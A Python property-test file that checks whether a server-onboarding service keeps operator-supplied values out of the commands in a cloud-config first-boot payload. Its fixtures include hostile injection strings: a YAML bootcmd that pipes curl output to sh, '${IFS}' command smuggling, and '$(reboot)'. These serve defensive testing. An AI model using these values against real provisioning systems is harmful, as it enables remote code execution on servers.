"""Hostile input never reaches a node through the first-boot payload (docs/security.md, T1).

Every operator-influenced value (the bundle reference, version and digest from policy, the
site's node API URL and CA material, the hostname of an onboarding) is either refused, or lands
in the rendered cloud-config as *data*: the parsed document has exactly the keys the payload
defines, its commands are the same whatever the values, and each value reads back unchanged
from its data file. Property tests try at least 500 values per field, the reviewer's examples
included.
"""

from __future__ import annotations

import contextlib
from typing import Any

import pytest
import yaml
from django.test import override_settings
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from maas_domain.models import AuditLog, MaasSite
from maas_domain.policy import resolve_policy
from maas_simulator.node import agent_config
from onboarding import payload
from onboarding.models import Onboarding
from tests.factories import make_profile, make_site
from tests.support.flows import CA_PEM

DIGEST = "sha256:" + "ab" * 32
NODE_URL = "https://cp.example.test"
BUNDLE_HOSTS = ["bundles.example.test", "*.s3.example.test"]
PRESIGNED = (
    "https://site-bundles.s3.example.test/rack7/site.tgz?X-Amz-Algorithm=AWS4-HMAC-SHA256"
    "&X-Amz-Credential=AKIAEXAMPLE%2F20260101%2Fus-east-1%2Fs3%2Faws4_request"
    "&X-Amz-Date=20260101T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host"
    "&X-Amz-Signature=0123456789abcdef0123456789abcdef"
)
# What the reviewer reproduced (docs/security.md, T1).
EVIL_VERSION = "1)\nbootcmd:\n- curl -s http://x/y | sh\n#"
EVIL_REF = "https://a/b.tgz;curl${IFS}x|sh;#"
EVIL_NODE_URL = "https://cp.example.test/;curl${IFS}x|sh;#"
BENIGN = {
    "bundle_ref": "https://bundles.example.test/site.tgz",
    "bundle_version": "2.3.0",
    "bundle_digest": DIGEST,
    "node_api_url": NODE_URL,
    "hostname": "c07u31",
    "ca_pem": CA_PEM,
}
SETTINGS = {"NODE_API_URL": NODE_URL, "PAYLOAD_ALLOWED_HOSTS": BUNDLE_HOSTS}


def _workflow(**values: Any) -> tuple[Onboarding, Any]:
    """An onboarding and its policy, in memory, with one field replaced."""
    v = {**BENIGN, **values}
    site = MaasSite(
        pk=3,
        name="dc1",
        maas_url="http://maas.test:5240/MAAS/",
        ca_bundle_pem=v["ca_pem"],
        node_api_url=v["node_api_url"],
    )
    wf = Onboarding(pk=41, site=site, hostname=v["hostname"], attempt=2, ipmi_ip="10.0.0.9")
    policy = resolve_policy(
        {
            "bootstrap_bundle_ref": v["bundle_ref"],
            "bootstrap_bundle_version": v["bundle_version"],
            "bootstrap_bundle_digest": v["bundle_digest"],
        }
    )
    return wf, policy


TOKENS = payload.Tokens("boot-" + "b" * 40, "enroll-" + "e" * 40)


def _render(**values: Any) -> bytes | None:
    """The rendered user data, or None when the payload refuses the value."""
    wf, policy = _workflow(**values)
    try:
        return payload.render(wf, policy, TOKENS)
    except ValueError:  # the payload's refusal (PayloadRefused is a ValueError)
        return None


def _strings(node: Any) -> list[str]:
    if isinstance(node, dict):
        return [s for k, v in node.items() for s in (*_strings(k), *_strings(v))]
    if isinstance(node, list):
        return [s for item in node for s in _strings(item)]
    return [node] if isinstance(node, str) else []


def _data_values(document: dict[str, Any]) -> list[str]:
    """Every value the payload carries as data: file contents, and inside the node-agent
    config and any other YAML file, each parsed value."""
    out: list[str] = []
    for item in document.get("write_files") or []:
        content = item.get("content", "")
        out.append(content)
        out.append(content.rstrip("\n"))
        with contextlib.suppress(yaml.YAMLError):
            out.extend(_strings(yaml.safe_load(content)))
    return out


def assert_safe(field: str, value: str) -> None:
    text = _render(**{field: value})
    if text is None:
        return  # refused: nothing reaches a node
    # an empty bundle reference or CA means "none": the payload has no such file
    reference = _render(**{field: ""}) if not value.strip() else _render()
    assert reference is not None
    document, intended = yaml.safe_load(text), yaml.safe_load(reference)
    assert isinstance(document, dict)
    assert set(document) == {"write_files", "runcmd"}, f"{field}={value!r} added keys"
    # the commands do not depend on any value: nothing operator-influenced is in a command
    assert document["runcmd"] == intended["runcmd"], f"{field}={value!r} reached a command"
    paths = [f["path"] for f in document["write_files"]]
    assert paths == [f["path"] for f in intended["write_files"]]
    scripts = {f["path"]: f for f in intended["write_files"] if f["path"].endswith(".sh")}
    for item in document["write_files"]:
        if item["path"] in scripts:
            assert item == scripts[item["path"]], f"{field}={value!r} changed a script"
    if not value.strip():
        return  # "none": the site default (node URL) or no such file
    if field == "bundle_digest":
        value = value.removeprefix("sha256:")
    if field == "ca_pem":
        value = value.replace("\r\n", "\n").strip()  # PEM text is normalised
    if field == "node_api_url":
        value = value.rstrip("/")  # a base URL: the payload appends its paths
    assert value in _data_values(document), f"{field}={value!r} did not arrive intact"


HOSTILE = [
    EVIL_VERSION,
    EVIL_REF,
    EVIL_NODE_URL,
    "x\nbootcmd: [reboot]",
    "x' ; reboot ; '",
    'x" && reboot && "',
    "$(reboot)",
    "`reboot`",
    "x\r\nruncmd: [[reboot]]",
    "x\x00y",
    "{{ bootstrap_token }}",
    "{% if 1 %}x{% endif %}",
    "&amp;<b>",
    "- a\n- b",
    "|\n  reboot",
    "c07u40\n",
    "",
]
SHELLISH = st.text(
    alphabet=st.sampled_from(
        list("abz019.-_+:/?&=%#;|$`'\"\\(){}[]<>!*~@, \n\r\t\x00\x1b\u2028\u00e9")
    ),
    max_size=60,
)
URLISH = st.builds(
    "{}://{}/{}{}".format,
    st.sampled_from(["https", "http", "ftp", "file", "HTTPS"]),
    st.sampled_from(
        [
            "bundles.example.test",
            "x.s3.example.test",
            "cp.example.test",
            "user:pw@bundles.example.test",
            "169.254.169.254",
            "[fe80::1]",
            "evil.test",
        ]
    ),
    SHELLISH,
    st.one_of(st.just(""), st.builds("?{}".format, SHELLISH)),
)
VALUES = st.one_of(st.sampled_from(HOSTILE), SHELLISH, URLISH, st.text(max_size=80))
PROPERTY = settings(
    max_examples=500,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    database=None,
)


@pytest.mark.parametrize(
    "field", ["bundle_ref", "bundle_version", "bundle_digest", "node_api_url", "hostname"]
)
def test_every_operator_value_is_refused_or_stays_data(field: str) -> None:
    @PROPERTY
    @given(value=VALUES)
    @example(value=EVIL_VERSION)
    @example(value=EVIL_REF)
    @example(value=EVIL_NODE_URL)
    @example(value=PRESIGNED)
    def check(value: str) -> None:
        with override_settings(**SETTINGS):
            assert_safe(field, value)

    check()


@PROPERTY
@given(value=st.one_of(st.sampled_from(HOSTILE), st.text(max_size=200)))
@example(value=CA_PEM + "\nruncmd: [[reboot]]\n")
@example(value="-----BEGIN CERTIFICATE-----\n'; reboot; '\n-----END CERTIFICATE-----")
def test_ca_material_is_refused_or_stays_data(value: str) -> None:
    with override_settings(**SETTINGS):
        assert_safe("ca_pem", value)


def test_the_reviewers_examples_are_refused_at_render_even_if_stored() -> None:
    with override_settings(**SETTINGS):
        assert _render(bundle_version=EVIL_VERSION) is None
        assert _render(bundle_ref=EVIL_REF) is None
        assert _render(node_api_url=EVIL_NODE_URL) is None
        assert _render(hostname="c07u40\n") is None
        assert _render() is not None


def test_a_presigned_bundle_url_renders_intact() -> None:
    with override_settings(**SETTINGS):
        text = _render(bundle_ref=PRESIGNED)
    assert text is not None
    assert b"&amp;" not in text
    document = yaml.safe_load(text)
    assert PRESIGNED in _data_values(document)
    assert PRESIGNED not in " ".join(_strings(document["runcmd"]))


def test_the_payload_still_enrolls_through_the_simulated_node() -> None:
    with override_settings(**SETTINGS):
        text = _render(bundle_ref=PRESIGNED)
    assert text is not None
    config = agent_config(text)
    assert config is not None
    assert config["enroll_url"] == f"{NODE_URL}/api/v1/node/enroll"
    assert (config["onboarding_id"], config["attempt"], config["hostname"]) == (41, 2, "c07u31")
    assert config["enrollment_token"] == TOKENS.enrollment


# -- the write paths refuse the same values with a 400 and change nothing ------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("patch", "field"),
    [
        ({"bootstrap_bundle_version": EVIL_VERSION}, "policy.bootstrap_bundle_version"),
        ({"bootstrap_bundle_version": "1.0\n"}, "policy.bootstrap_bundle_version"),
        (
            {
                "bootstrap_bundle_ref": EVIL_REF,
                "bootstrap_bundle_version": "1.0",
                "bootstrap_bundle_digest": DIGEST,
            },
            "policy.bootstrap_bundle_ref",
        ),
        (
            {
                "bootstrap_bundle_ref": "https://bundles.example.test/b.tgz",
                "bootstrap_bundle_version": "1.0",
                "bootstrap_bundle_digest": DIGEST + "\n",
            },
            "policy.bootstrap_bundle_digest",
        ),
        (
            {
                "bootstrap_bundle_ref": "https://elsewhere.test/b.tgz",
                "bootstrap_bundle_version": "1.0",
                "bootstrap_bundle_digest": DIGEST,
            },
            "policy.bootstrap_bundle_ref",
        ),
        (
            {
                "bootstrap_bundle_ref": "http://bundles.example.test/b.tgz",
                "bootstrap_bundle_version": "1.0",
                "bootstrap_bundle_digest": DIGEST,
            },
            "policy.bootstrap_bundle_ref",
        ),
    ],
)
def test_site_and_profile_patches_refuse_hostile_bundle_values(
    api: APIClient, settings: Any, patch: dict[str, Any], field: str
) -> None:
    settings.PAYLOAD_ALLOWED_HOSTS = BUNDLE_HOSTS
    site = make_site()
    profile = make_profile(site)
    before = AuditLog.objects.count()
    response = api.patch(f"/api/v1/admin/maas-sites/{site.pk}", {"policy": patch}, format="json")
    assert response.status_code == 400, response.json()
    assert field in response.json()["fields"], response.json()
    response = api.patch(
        f"/api/v1/admin/maas-sites/{site.pk}/profiles/{profile.pk}",
        {"policy_overrides": patch},
        format="json",
    )
    assert response.status_code == 400, response.json()
    assert field.replace("policy.", "policy_overrides.") in response.json()["fields"]
    site.refresh_from_db()
    profile.refresh_from_db()
    assert (site.policy, profile.policy_overrides) == ({}, {})
    assert AuditLog.objects.count() == before


@pytest.mark.django_db
def test_an_allowed_presigned_bundle_is_accepted_by_the_api(api: APIClient, settings: Any) -> None:
    settings.PAYLOAD_ALLOWED_HOSTS = BUNDLE_HOSTS
    site = make_site()
    patch = {
        "bootstrap_bundle_ref": PRESIGNED,
        "bootstrap_bundle_version": "2.3.0+rack7",
        "bootstrap_bundle_digest": DIGEST,
    }
    response = api.patch(f"/api/v1/admin/maas-sites/{site.pk}", {"policy": patch}, format="json")
    assert response.status_code == 200, response.json()
    assert response.json()["policy"]["bootstrap_bundle_ref"] == PRESIGNED


@pytest.mark.django_db
def test_admin_site_form_refuses_a_hostile_node_api_url(client: Any, admin_user: Any) -> None:
    client.force_login(admin_user)
    site = make_site(name="dc9")
    form = {
        "name": "dc9",
        "description": "",
        "maas_url": site.maas_url,
        "maas_user": "",
        "verify_tls": "on",
        "pxe_subnet": "",
        "status": "active",
        "policy": "{}",
        "approved_hosts": "[]",
        "ca_bundle_pem": "",
        "node_api_url": EVIL_NODE_URL,
        "payload_allowed_hosts": "[]",
        "expected_revision": str(site.revision),
    }
    response = client.post(f"/admin/maas_domain/maassite/{site.pk}/change/", form)
    site.refresh_from_db()
    assert site.node_api_url == ""
    assert response.status_code in (200, 302)
    page = client.get(f"/admin/maas_domain/maassite/{site.pk}/change/").content.decode()
    assert response.status_code == 200 or "Not saved" in page
